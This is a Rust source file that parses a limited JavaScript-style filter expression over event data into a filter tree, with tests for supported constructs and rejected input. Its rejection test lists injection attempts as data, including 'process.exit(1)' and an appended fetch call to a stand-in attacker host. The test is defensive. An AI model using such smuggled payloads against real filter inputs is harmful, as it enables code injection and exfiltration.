//! The expression form of a filter, as clients written for other platforms send it:
//! `event.data["payment_method"] === "card" && !(event.data["test_mode"] === true)`.
//! Only this subset is read, into a [`Filter`]; nothing is ever run as code:
//! - `===` and `!==` between paths and literals;
//! - `&&`, `||`, `!` and parentheses;
//! - paths from `event`, by `.name` or `["name"]` (and `[0]` into lists); a path alone
//!   tests its value's truthiness;
//! - string (single or double quoted), number, `true`, `false` and `null` literals.

use coffer_model::validation::FieldError;
use serde_json::Value;

use super::tree::{AT, Filter, MAX_DEPTH, Operand};

/// Far longer than any filter written by hand.
pub const MAX_CHARS: usize = 2_000;

#[derive(Debug, Clone, PartialEq)]
enum Token {
    Open,
    Close,
    Not,
    And,
    Or,
    Same,
    NotSame,
    Dot,
    OpenIndex,
    CloseIndex,
    Name(String),
    Literal(Value),
}

fn bad(message: impl Into<String>) -> FieldError {
    FieldError::not_valid(AT, message)
}

/// Reads an expression into a filter, or names what is outside the subset.
pub fn parse(text: &str) -> Result<Filter, FieldError> {
    if text.chars().count() > MAX_CHARS {
        return Err(bad(format!("must be at most {MAX_CHARS} characters")));
    }
    let tokens = tokens(text)?;
    if tokens.is_empty() {
        return Err(FieldError::not_blank(AT));
    }
    let mut parser = Parser { tokens, at: 0 };
    let filter = parser.any(0)?;
    match parser.tokens.get(parser.at) {
        None => Ok(filter),
        Some(token) => Err(bad(format!(
            "unexpected {token:?} after a whole expression"
        ))),
    }
}

fn tokens(text: &str) -> Result<Vec<Token>, FieldError> {
    let chars: Vec<char> = text.chars().collect();
    let mut out = Vec::new();
    let mut i = 0;
    let starts = |i: usize, s: &str| {
        s.chars()
            .enumerate()
            .all(|(k, c)| chars.get(i + k) == Some(&c))
    };
    while i < chars.len() {
        let c = chars[i];
        let (token, width) = match c {
            c if c.is_whitespace() => {
                i += 1;
                continue;
            }
            '(' => (Token::Open, 1),
            ')' => (Token::Close, 1),
            '.' => (Token::Dot, 1),
            '[' => (Token::OpenIndex, 1),
            ']' => (Token::CloseIndex, 1),
            '=' if starts(i, "===") => (Token::Same, 3),
            '!' if starts(i, "!==") => (Token::NotSame, 3),
            '!' if !starts(i, "!=") => (Token::Not, 1),
            '&' if starts(i, "&&") => (Token::And, 2),
            '|' if starts(i, "||") => (Token::Or, 2),
            '"' | '\'' => {
                let (s, width) = string(&chars[i..])?;
                (Token::Literal(Value::String(s)), width)
            }
            c if c.is_ascii_digit() || c == '-' => {
                let width = chars[i..]
                    .iter()
                    .take_while(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '-' | '+'))
                    .count();
                let raw: String = chars[i..i + width].iter().collect();
                let number = serde_json::from_str::<serde_json::Number>(&raw)
                    .map_err(|_| bad(format!("{raw:?} is not a number")))?;
                (Token::Literal(Value::Number(number)), width)
            }
            c if c.is_alphabetic() || c == '_' || c == '$' => {
                let width = chars[i..]
                    .iter()
                    .take_while(|c| c.is_alphanumeric() || matches!(c, '_' | '$'))
                    .count();
                let name: String = chars[i..i + width].iter().collect();
                let token = match name.as_str() {
                    "true" => Token::Literal(Value::Bool(true)),
                    "false" => Token::Literal(Value::Bool(false)),
                    "null" => Token::Literal(Value::Null),
                    _ => Token::Name(name),
                };
                (token, width)
            }
            other => {
                return Err(bad(format!(
                    "{other:?} is outside the filter language (===, !==, &&, ||, !, parentheses, \
                     paths from event, literals)"
                )));
            }
        };
        out.push(token);
        i += width;
    }
    Ok(out)
}

/// A quoted string at the start of `chars`, and how many characters it took.
fn string(chars: &[char]) -> Result<(String, usize), FieldError> {
    let quote = chars[0];
    let mut out = String::new();
    let mut i = 1;
    while let Some(&c) = chars.get(i) {
        match c {
            c if c == quote => return Ok((out, i + 1)),
            '\\' => {
                let escaped = chars
                    .get(i + 1)
                    .ok_or_else(|| bad("a string is not closed"))?;
                out.push(match escaped {
                    'n' => '\n',
                    't' => '\t',
                    'r' => '\r',
                    '\\' | '"' | '\'' => *escaped,
                    other => {
                        return Err(bad(format!("\\{other} is not an escape the filter reads")));
                    }
                });
                i += 2;
            }
            c => {
                out.push(c);
                i += 1;
            }
        }
    }
    Err(bad("a string is not closed"))
}

struct Parser {
    tokens: Vec<Token>,
    at: usize,
}

impl Parser {
    fn peek(&self) -> Option<&Token> {
        self.tokens.get(self.at)
    }

    fn eat(&mut self, token: &Token) -> bool {
        let found = self.peek() == Some(token);
        if found {
            self.at += 1;
        }
        found
    }

    fn deeper(depth: usize) -> Result<usize, FieldError> {
        if depth >= MAX_DEPTH {
            return Err(bad(format!("must be nested at most {MAX_DEPTH} levels")));
        }
        Ok(depth + 1)
    }

    fn any(&mut self, depth: usize) -> Result<Filter, FieldError> {
        let mut each = vec![self.all(depth)?];
        while self.eat(&Token::Or) {
            each.push(self.all(depth)?);
        }
        Ok(Filter::any(each))
    }

    fn all(&mut self, depth: usize) -> Result<Filter, FieldError> {
        let mut each = vec![self.unary(depth)?];
        while self.eat(&Token::And) {
            each.push(self.unary(depth)?);
        }
        Ok(Filter::all(each))
    }

    fn unary(&mut self, depth: usize) -> Result<Filter, FieldError> {
        if self.eat(&Token::Not) {
            return Ok(Filter::Not(Box::new(self.unary(Self::deeper(depth)?)?)));
        }
        if self.eat(&Token::Open) {
            let inner = self.any(Self::deeper(depth)?)?;
            if !self.eat(&Token::Close) {
                return Err(bad("a parenthesis is not closed"));
            }
            return Ok(inner);
        }
        let left = self.operand()?;
        let same = if self.eat(&Token::Same) {
            true
        } else if self.eat(&Token::NotSame) {
            false
        } else {
            return Ok(match left {
                Operand::Literal(v) => {
                    Filter::Constant(Filter::Truthy(Operand::Literal(v)).passes(&Value::Null))
                }
                path => Filter::Truthy(path),
            });
        };
        let right = self.operand()?;
        let equal = match (&left, &right) {
            (Operand::Literal(a), Operand::Literal(b)) => Filter::Constant(a == b),
            _ => Filter::Equals(left, right),
        };
        Ok(match (same, equal) {
            (true, equal) => equal,
            (false, Filter::Constant(b)) => Filter::Constant(!b),
            (false, equal) => Filter::Not(Box::new(equal)),
        })
    }

    fn operand(&mut self) -> Result<Operand, FieldError> {
        match self.peek().cloned() {
            Some(Token::Literal(v)) => {
                self.at += 1;
                Ok(Operand::Literal(v))
            }
            Some(Token::Name(root)) if root == "event" => {
                self.at += 1;
                let mut keys = Vec::new();
                loop {
                    if self.eat(&Token::Dot) {
                        match self.peek().cloned() {
                            Some(Token::Name(key)) => keys.push(key),
                            // `.true`, `.null` are names here, as in JavaScript.
                            Some(Token::Literal(Value::Bool(b))) => keys.push(b.to_string()),
                            Some(Token::Literal(Value::Null)) => keys.push("null".to_owned()),
                            _ => return Err(bad("a name must follow a dot")),
                        }
                        self.at += 1;
                    } else if self.eat(&Token::OpenIndex) {
                        match self.peek().cloned() {
                            Some(Token::Literal(Value::String(key))) => keys.push(key),
                            Some(Token::Literal(Value::Number(n))) if n.is_u64() => {
                                keys.push(n.to_string());
                            }
                            _ => return Err(bad("[...] takes a quoted name or an index")),
                        }
                        self.at += 1;
                        if !self.eat(&Token::CloseIndex) {
                            return Err(bad("a bracket is not closed"));
                        }
                    } else {
                        return Ok(Operand::Path(keys));
                    }
                }
            }
            Some(Token::Name(other)) => Err(bad(format!(
                "{other:?} is not known; paths start from event"
            ))),
            Some(other) => Err(bad(format!("unexpected {other:?}"))),
            None => Err(bad("the expression ends too soon")),
        }
    }
}

#[cfg(test)]
#[allow(clippy::unwrap_used)]
mod tests {
    use super::*;
    use crate::subscriptions::domain::filter::read;
    use serde_json::json;

    fn event() -> Value {
        json!({"data": {"payment_method": "card", "amount": 1050, "test_mode": false,
            "tags": ["a", "b"], "supporter": {"email": "ada@example.org", "phone": null}}})
    }

    #[test]
    fn the_subset_reads_into_the_same_filter_as_the_search_form() {
        let expression = parse(r#"event.data["payment_method"] === "card""#).unwrap();
        let object = read(&json!({"$match": {"data.payment_method": "card"}}))
            .unwrap()
            .unwrap();
        assert_eq!(expression, object.clone());
        assert_eq!(
            parse("event.data.payment_method === 'card'").unwrap(),
            object
        );
    }

    #[test]
    fn each_construct_of_the_subset_decides_as_javascript_would() {
        for (text, expected) in [
            (
                r#"event.data["payment_method"] === "card" && event.data.amount === 1050"#,
                true,
            ),
            (
                r#"event.data["payment_method"] !== "card" || event.data.test_mode"#,
                false,
            ),
            (r#"!(event.data.test_mode === true)"#, true),
            (
                r#"event.data["supporter"]["email"] === "ada@example.org""#,
                true,
            ),
            (
                r#"event.data.supporter.phone === null && event.data.nothing === null"#,
                true,
            ),
            (r#"event.data.tags[1] === "b""#, true),
            (r#"!event.data.test_mode && event.data.amount"#, true),
            (
                r#"(event.data.amount === 1 || event.data.amount === 1050) && !false"#,
                true,
            ),
            (r#""a" === "a""#, true),
            (r#"'it\'s' !== "it's""#, false),
        ] {
            assert_eq!(parse(text).unwrap().passes(&event()), expected, "{text}");
        }
    }

    #[test]
    fn anything_outside_the_subset_is_named_and_never_run() {
        for bad in [
            "",
            "event.data.amount == 1050",
            "event.data.amount > 1",
            "process.exit(1)",
            "event.data.a === 'x'; fetch('https://attacker.example')",
            "event.data.a === `x`",
            "(event.data.a === 'x'",
            "event.data['a' === 'x'",
            "event.data.a === 'x' event.data.b",
            "event.data.a = 'x'",
            "event..a",
            "'open",
            &"!".repeat(40)
                .chars()
                .chain("event.a".chars())
                .collect::<String>(),
            &format!("event.data.a === '{}'", "x".repeat(MAX_CHARS)),
        ] {
            let e = parse(bad).unwrap_err();
            assert_eq!(e.property, "filter", "{bad}");
        }
    }
}
